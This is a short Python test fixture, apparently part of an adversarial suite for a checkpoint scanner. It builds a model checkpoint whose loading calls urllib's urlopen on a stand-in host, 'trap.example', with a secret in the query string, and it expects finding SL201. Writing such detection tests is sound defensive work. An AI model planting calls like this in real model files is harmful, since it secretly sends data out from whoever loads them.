"""Class: exfiltration. HTTPS: the name is told, the page is not."""

from pathlib import Path

from tests.adversarial.craft import call, checkpoint

EXPECT = {"domain": "trap.example", "finding": "SL201"}


def make(folder: Path) -> Path:
    return checkpoint(
        folder, call("urllib.request:urlopen", "https://trap.example/?k=SECRET", None, 2)
    )
